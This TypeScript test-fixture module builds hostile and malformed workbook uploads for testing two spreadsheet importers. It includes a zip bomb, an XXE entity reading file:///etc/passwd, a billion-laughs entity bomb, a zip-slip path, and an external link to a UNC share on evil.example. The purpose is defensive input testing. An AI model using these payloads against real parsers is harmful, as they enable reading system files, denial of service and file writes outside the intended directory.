// Hostile, corrupt and wrong files for the two importers (statistics, roster): built from the real downloaded
// templates with exceljs or byte by byte (test/bad-input/zip.ts), never read from disk.
import crypto from "node:crypto";
import { deflateRawSync } from "node:zlib";
import ExcelJS from "exceljs";
import { editZip, readZip, writeZip } from "./zip";

export interface UploadFile {
  buffer: Buffer;
  fileName: string;
}

async function load(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  return wb;
}
const save = async (wb: ExcelJS.Workbook) => Buffer.from(await wb.xlsx.writeBuffer());

/** A workbook with one sheet of these rows. */
export async function sheetWith(name: string, rows: unknown[][]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet(name);
  for (const r of rows) ws.addRow(r);
  return save(wb);
}

/** The template with `sheet` changed by `edit`. */
export async function editSheet(template: Buffer, sheet: string, edit: (ws: ExcelJS.Worksheet, wb: ExcelJS.Workbook) => void): Promise<Buffer> {
  const wb = await load(template);
  edit(wb.getWorksheet(sheet)!, wb);
  return save(wb);
}

/** One zip entry of 65 MiB of zeros deflated to a few KB; `declared` is the size its headers claim. */
export function zipBomb(declared = 65 * 1024 * 1024): Buffer {
  return writeZip([{ name: "xl/worksheets/sheet1.xml", data: Buffer.alloc(65 * 1024 * 1024) }], { declaredSize: () => declared });
}

/** A zip of `n` tiny entries. */
export function manyEntries(n: number): Buffer {
  return writeZip(Array.from({ length: n }, (_, i) => ({ name: `xl/media/image${i}.xml`, data: Buffer.from("<x/>") })), { store: true });
}

/** The zip with the "encrypted" flag set on every entry (what a password-protected zip looks like). */
export function encryptedFlag(xlsx: Buffer): Buffer {
  const out = Buffer.from(xlsx);
  for (let p = 0; p + 4 <= out.length; p++) {
    const sig = out.readUInt32LE(p);
    if (sig === 0x04034b50) out.writeUInt16LE(out.readUInt16LE(p + 6) | 1, p + 6);
    if (sig === 0x02014b50) out.writeUInt16LE(out.readUInt16LE(p + 8) | 1, p + 8);
  }
  return out;
}

const firstSheetXml = (name: string) => /^xl\/worksheets\/sheet1\.xml$/.test(name);

/** A merged range of 26 × 100 000 cells in the first sheet (exceljs would allocate every cell). */
export const hugeMerge = (xlsx: Buffer) => editZip(xlsx, (n, t) => (firstSheetXml(n) ? t.replace(/<mergeCells[^>]*>/, (m) => `${m}<mergeCell ref="A10:Z100010"/>`).replace(/<\/sheetData>(?![\s\S]*<mergeCells)/, '</sheetData><mergeCells count="1"><mergeCell ref="A10:Z100010"/></mergeCells>') : t));

/** A column definition reaching beyond Excel's 16 384 columns. */
export const hugeCols = (xlsx: Buffer) => editZip(xlsx, (n, t) => (firstSheetXml(n) ? t.replace(/<sheetData/, '<cols><col min="1" max="1048576" width="9"/></cols><sheetData').replace(/<cols>(?=[\s\S]*<cols>)[\s\S]*?<\/cols>/, "") : t));

/** A defined name (print area) over a whole sheet. */
export const hugeDefinedName = (xlsx: Buffer) =>
  editZip(xlsx, (n, t) => (n === "xl/workbook.xml" ? t.replace(/<\/sheets>/, '</sheets><definedNames><definedName name="_xlnm.Print_Area" localSheetId="0">Sheet1!$A$1:$XFD$1048576</definedName></definedNames>').replace(/<definedNames>(?=[\s\S]*<definedNames>)[\s\S]*?<\/definedNames>/, "") : t));

/** A macro project (vbaProject.bin) inside a workbook still named .xlsx (an .xlsm renamed). */
export const withMacros = (xlsx: Buffer) =>
  editZip(
    xlsx,
    (n, t) =>
      n === "[Content_Types].xml"
        ? t.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
        : n === "xl/_rels/workbook.xml.rels"
          ? t.replace("</Relationships>", '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
          : t,
    [{ name: "xl/vbaProject.bin", data: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), crypto.randomBytes(1024)]) }],
  );

/** An external workbook link part and a cell formula reading from it ([1]Sheet1!A1, cached value 5). */
export async function withExternalLink(template: Buffer, sheet: string, row: number, col: number): Promise<Buffer> {
  const edited = await editSheet(template, sheet, (ws) => {
    ws.getRow(row).getCell(col).value = { formula: "[1]Sheet1!A1", result: 5 } as ExcelJS.CellFormulaValue;
  });
  return editZip(
    edited,
    (n, t) =>
      n === "[Content_Types].xml"
        ? t.replace("</Types>", '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
        : n === "xl/_rels/workbook.xml.rels"
          ? t.replace("</Relationships>", '<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')
          : t,
    [
      { name: "xl/externalLinks/externalLink1.xml", data: Buffer.from('<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>') },
      { name: "xl/externalLinks/_rels/externalLink1.xml.rels", data: Buffer.from('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil.example\\share\\data.xlsx" TargetMode="External"/></Relationships>') },
    ],
  );
}

/** An XML external entity (XXE) declared in the shared strings. */
export const withXxe = (xlsx: Buffer) =>
  editZip(xlsx, (n, t) => (n === "xl/sharedStrings.xml" ? t.replace(/^<\?xml[^>]*\?>/, '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace(/<t>([^<]*)<\/t>/, "<t>&xxe;</t>") : t));

/** "Billion laughs": nested entity expansion in the shared strings. */
export const withEntityBomb = (xlsx: Buffer) => {
  const ents = ['<!ENTITY l0 "哈哈哈哈哈哈哈哈哈哈">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`)].join("");
  return editZip(xlsx, (n, t) => (n === "xl/sharedStrings.xml" ? t.replace(/^<\?xml[^>]*\?>/, `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [${ents}]>`).replace(/<t>([^<]*)<\/t>/, "<t>&l9;</t>") : t));
};

/** Entry names that climb out of the archive (zip slip), added to a valid workbook. */
export const withZipSlip = (xlsx: Buffer) => editZip(xlsx, (_n, t) => t, [{ name: "../../../../tmp/evil.xml", data: Buffer.from("<x/>") }]);

/** Every sheet hidden. */
export const allHidden = (xlsx: Buffer) => editZip(xlsx, (n, t) => (n === "xl/workbook.xml" ? t.replace(/ state="visible"/g, "").replace(/<sheet (?![^>]*state=)/g, '<sheet state="hidden" ') : t));

/** The workbook without its data sheet (only 说明 left). */
export async function withoutSheet(template: Buffer, sheet: string): Promise<Buffer> {
  const wb = await load(template);
  wb.removeWorksheet(wb.getWorksheet(sheet)!.id);
  return save(wb);
}

/** A workbook with the data sheet renamed (Sheet1) and no other visible sheet matching the headers. */
export async function renamedSheet(template: Buffer, sheet: string): Promise<Buffer> {
  const wb = await load(template);
  wb.getWorksheet(sheet)!.name = "Sheet1";
  return save(wb);
}

/** `rows` data rows of `width` cells under one header row. */
export async function bigSheet(name: string, header: string[], rows: number, cell: (r: number, c: number) => unknown): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet(name);
  ws.addRow(header);
  for (let r = 0; r < rows; r++) ws.addRow(header.map((_, c) => cell(r, c)));
  return save(wb);
}

/** A row of 1 200 filled cells under the header. */
export async function wideRow(name: string, header: string[]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet(name);
  ws.addRow(header);
  ws.addRow(Array.from({ length: 1200 }, (_, i) => `x${i}`));
  return save(wb);
}

export const truncate = (b: Buffer, bytes: number) => b.subarray(0, bytes);
export const randomZipLike = () => Buffer.concat([Buffer.from("PK\u0003\u0004"), crypto.randomBytes(4096)]);
export const emptyZip = () => writeZip([]);
export const oleHeader = () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
export const gbk = () => Buffer.from([0xd1, 0xa7, 0xd0, 0xa3, 0xb1, 0xea, 0xca, 0xb6, 0xc2, 0xeb, 0x2c, 0xc3, 0xfb, 0xb3, 0xc6, 0x0a]);
export const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
export const pdf = () => Buffer.from("%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF");
export const png = () => Buffer.from("89504e470d0a1a0a0000000d49484452", "hex");
/** Deflated garbage inside a valid zip structure (inflate fails). */
export const badDeflate = () => {
  const good = writeZip([{ name: "xl/workbook.xml", data: Buffer.from("<workbook/>") }]);
  const entries = readZip(good);
  const z = writeZip(entries);
  const body = deflateRawSync(Buffer.from("<workbook/>"));
  const at = z.indexOf(body);
  const out = Buffer.from(z);
  crypto.randomBytes(body.length).copy(out, at);
  return out;
};
